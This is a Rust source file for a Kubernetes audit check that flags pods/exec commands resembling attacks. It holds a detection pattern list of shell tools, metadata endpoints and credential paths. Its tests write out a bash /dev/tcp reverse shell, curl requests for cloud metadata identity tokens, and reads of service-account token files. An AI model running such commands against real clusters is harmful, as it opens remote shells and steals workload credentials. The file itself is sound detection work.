//! Exec whose command looks like an attack: reverse shells, downloads, metadata endpoint,
//! credential files.

use kubeward_core::{Area, CheckDoc, CheckMeta, RefStatic, Severity, Status};

use super::*;

pub static META: CheckMeta = CheckMeta {
    code: "A002",
    name: "exec-suspicious-command",
    since: "0.1.0",
    aliases: &[],
    title: "Exec runs a command typical of an attack",
    area: Area::Audit,
    severity: Severity::High,
    references: &[
        RefStatic::mitre("T1059"),
        RefStatic::mitre("T1552.005"),
        ms("MS-TA9007"),
    ],
    profiles: &[],
    kubeward_own: true,
    doc: CheckDoc {
        what: "The `command` parameters of pods/exec requests (visible in the request URI at every audit level) matched against reverse-shell, download, cloud metadata (169.254.169.254, 168.63.129.16, metadata.google.internal) and credential-path patterns. The credential paths are the service-account token (`/var/run/secrets/kubernetes.io/`), projected service-account tokens (`/var/run/secrets/tokens/`), the workload-identity tokens of AKS (`/var/run/secrets/azure/tokens/`, AZURE_FEDERATED_TOKEN_FILE) and EKS (`/var/run/secrets/eks.amazonaws.com/` for IAM roles for service accounts, `/var/run/secrets/pods.eks.amazonaws.com/` for EKS Pod Identity), each also under `/run/`, and the node's `/etc/kubernetes/azure.json`. GKE Workload Identity has no token file: its tokens come from the metadata server, which the metadata patterns cover.",
        why: "These commands fetch tools, open shells back to an attacker or read the node's and pod's credentials (service account token, azure.json, IMDS tokens).",
        fix: "Treat as an incident: identify the user and source IP, revoke their credentials (`az aks get-credentials` is per user with Entra ID; rotate the cluster certificates with `az aks rotate-certs` if the local admin was used), inspect the pod and restrict pods/exec in RBAC.",
        links: &[
            "https://microsoft.github.io/Threat-Matrix-for-Kubernetes/techniques/bash%20or%20cmd%20inside%20container/",
            "https://learn.microsoft.com/azure/aks/workload-identity-overview",
            "https://docs.aws.amazon.com/eks/latest/userguide/pod-configuration.html",
            "https://kubernetes.io/docs/concepts/storage/projected-volumes/#serviceaccounttoken",
        ],
        bad: r#"{"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "5f0c0003-3c1e-4b7a-9d2e-8a61c0d20003", "stage": "ResponseStarted", "requestURI": "/api/v1/namespaces/shop/pods/web/exec?command=sh&command=-c&command=curl%20-s%20-H%20Metadata:true%20http://169.254.169.254/metadata/identity/oauth2/token&container=web&stdin=true&stdout=true&tty=true", "verb": "create", "user": {"username": "alice@contoso.com", "groups": ["system:authenticated"]}, "sourceIPs": ["203.0.113.7"], "userAgent": "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", "objectRef": {"resource": "pods", "namespace": "shop", "name": "web", "apiVersion": "v1", "subresource": "exec"}, "responseStatus": {"metadata": {}, "code": 101}, "requestReceivedTimestamp": "2026-11-20T10:00:00.000000Z", "stageTimestamp": "2026-11-20T10:00:00.050000Z", "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}"#,
        good: r#"{"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata", "auditID": "5f0c0004-3c1e-4b7a-9d2e-8a61c0d20004", "stage": "ResponseStarted", "requestURI": "/api/v1/namespaces/shop/pods/web/exec?command=ls&command=/app&container=web&stdin=true&stdout=true&tty=true", "verb": "create", "user": {"username": "alice@contoso.com", "groups": ["system:authenticated"]}, "sourceIPs": ["203.0.113.7"], "userAgent": "kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", "objectRef": {"resource": "pods", "namespace": "shop", "name": "web", "apiVersion": "v1", "subresource": "exec"}, "responseStatus": {"metadata": {}, "code": 101}, "requestReceivedTimestamp": "2026-11-20T10:00:00.000000Z", "stageTimestamp": "2026-11-20T10:00:00.050000Z", "annotations": {"authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": ""}}"#,
    },
};

pub static CHECK: Check = Check::new(&META, Needs::PARTLY_READS, Status::Fail, eval);

const PATTERNS: &[&str] = &[
    "/dev/tcp/",
    "/dev/udp/",
    "nc -e",
    "ncat ",
    "socat ",
    "curl ",
    "wget ",
    "169.254.169.254",
    "168.63.129.16",
    // Credential files mounted into pods, matched from `/run/` so that both the `/var/run/…`
    // paths and the `/run/…` they link to are seen. See TOKEN_PATHS for what each one holds.
    "/run/secrets/kubernetes.io/",
    "/run/secrets/tokens/",
    "/run/secrets/azure/tokens/",
    "/run/secrets/eks.amazonaws.com/",
    "/run/secrets/pods.eks.amazonaws.com/",
    "metadata.google.internal",
    "/etc/kubernetes/azure.json",
    "/etc/shadow",
    "base64 -d",
    "python -c",
    "python3 -c",
    "perl -e",
    "mkfifo",
    "xmrig",
    "nsenter",
    "chroot /host",
];

/// The projected token paths among the patterns, with what they hold (item 5 of the real-input
/// review: workload-identity tokens are as good as the service-account token).
#[cfg(test)]
const TOKEN_PATHS: &[(&str, &str)] = &[
    (
        "/var/run/secrets/kubernetes.io/serviceaccount/token",
        "the pod's service-account token (automount)",
    ),
    (
        "/var/run/secrets/tokens/",
        "projected service-account tokens (the path Kubernetes' docs use for serviceAccountToken volumes)",
    ),
    (
        "/var/run/secrets/azure/tokens/azure-identity-token",
        "AKS Microsoft Entra Workload ID federated token (AZURE_FEDERATED_TOKEN_FILE)",
    ),
    (
        "/var/run/secrets/eks.amazonaws.com/serviceaccount/token",
        "EKS IAM roles for service accounts web-identity token (AWS_WEB_IDENTITY_TOKEN_FILE)",
    ),
    (
        "/var/run/secrets/pods.eks.amazonaws.com/serviceaccount/eks-pod-identity-token",
        "EKS Pod Identity token (AWS_CONTAINER_AUTHORIZATION_TOKEN_FILE)",
    ),
];

fn eval(v: &EventView, _: &Config) -> Option<String> {
    if v.resource() != "pods" || v.subresource() != "exec" || !v.is_stream_start() {
        return None;
    }
    let cmd = v.uri_params("command").join(" ");
    let hit = PATTERNS.iter().find(|p| cmd.contains(*p))?;
    Some(format!(
        "exec into {}: `{cmd}` (matches `{hit}`)",
        object_name(v)
    ))
}

#[cfg(test)]
mod tests {
    use super::super::testing::*;
    use super::*;
    use serde_json::json;

    fn exec(uri_cmd: &str) -> serde_json::Value {
        json!({"verb": "get", "stage": "ResponseStarted", "objectRef": {"subresource": "exec"},
               "requestURI": format!("/api/v1/namespaces/default/pods/web/exec?{uri_cmd}&stdin=true"), "responseStatus": {"code": 101}})
    }

    #[test]
    fn fires_on_reverse_shell_and_imds() {
        assert!(fires(
            &CHECK,
            exec(
                "command=bash&command=-c&command=bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%2F4444%200%3E%261"
            )
        ));
        assert!(fires(
            &CHECK,
            exec("command=curl+-H+Metadata:true+http://169.254.169.254/metadata/identity")
        ));
        assert!(fires(
            &CHECK,
            exec("command=cat&command=/var/run/secrets/kubernetes.io/serviceaccount/token")
        ));
    }

    #[test]
    fn item5_workload_identity_token_paths_fire() {
        for (path, _) in TOKEN_PATHS {
            let enc = path.replace('/', "%2F");
            assert!(
                fires(&CHECK, exec(&format!("command=cat&command={enc}"))),
                "{path}"
            );
            // The same file through /run, which /var/run links to.
            let run = path.trim_start_matches("/var");
            assert!(
                fires(&CHECK, exec(&format!("command=cat&command={run}"))),
                "{run}"
            );
        }
        assert!(fires(
            &CHECK,
            exec(
                "command=sh&command=-c&command=cat+%24AZURE_FEDERATED_TOKEN_FILE+/var/run/secrets/azure/tokens/azure-identity-token"
            )
        ));
        assert!(fires(
            &CHECK,
            exec("command=getent&command=hosts&command=metadata.google.internal")
        ));
        // Other files under /var/run are not credentials.
        assert!(!fires(
            &CHECK,
            exec("command=ls&command=/var/run/secrets-store")
        ));
        assert!(!fires(
            &CHECK,
            exec("command=cat&command=/var/run/nginx.pid")
        ));
    }

    #[test]
    fn silent_on_ordinary_commands() {
        assert!(!fires(&CHECK, exec("command=ls&command=-la")));
        assert!(!fires(&CHECK, exec("command=sh")));
        assert!(!fires(&CHECK, json!({"verb": "create"})));
    }
}
